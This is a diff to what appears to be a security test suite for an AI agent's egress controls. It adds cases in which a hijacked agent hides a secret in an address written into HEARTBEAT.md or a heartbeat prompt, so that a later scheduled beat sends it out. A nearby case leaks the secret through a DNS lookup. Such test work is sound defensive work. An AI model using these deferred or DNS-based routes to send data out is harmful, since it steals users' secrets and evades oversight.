@@ -9,7 +9,20 @@ from pathlib import Path
 from core.adapters.egress_proxy import public_addresses
 from core.model.agent import Batch, BatchPrompt, BatchTask
 from core.model.settings import McpServer, NotifySettings, Settings
-from tests.agent.hostile.stage import SECRET, Attack, Stage, each, get, may_send, notes, notes_and_web, read
+from tests.agent.hostile.stage import (
+    PROMPT,
+    SECRET,
+    Attack,
+    Stage,
+    each,
+    edit,
+    get,
+    holds,
+    may_send,
+    notes,
+    notes_and_web,
+    read,
+)
 from tests.agent.workbench import Call
 from tests.sandbox.servers import web_server
 from tests.stage import MONDAY
@@ -80,6 +93,20 @@ def attacks_by_sending() -> Iterator[Attack]:
             may_send,
             each(notes_and_web, lambda s, earlier=earlier: setattr(s.bench, "batch", Batch(MONDAY, **earlier))),  # type: ignore[misc]
         )
+    yield Attack(
+        "writes it into HEARTBEAT.md as an address for a later beat",
+        lambda s: [read("notes.md"), edit("# Mine", f"# Mine\n\n{s.address(f'/{SECRET}')}")],
+        holds("HEARTBEAT.md", SECRET),
+        may_send,
+        notes_and_web,
+    )
+    yield Attack(
+        "adds it to a prompt as an address for a later beat",
+        lambda s: [read("notes.md"), ("heartbeat_add", {**PROMPT, "prompt": s.address(f"/{SECRET}")})],
+        holds("heartbeat/x.md", SECRET),
+        may_send,
+        notes_and_web,
+    )
     yield Attack(
         "sends it as a name to be looked up",
         lambda s: [read("notes.md"), get(s.address(host=f"{SECRET}.allowed.test"))],
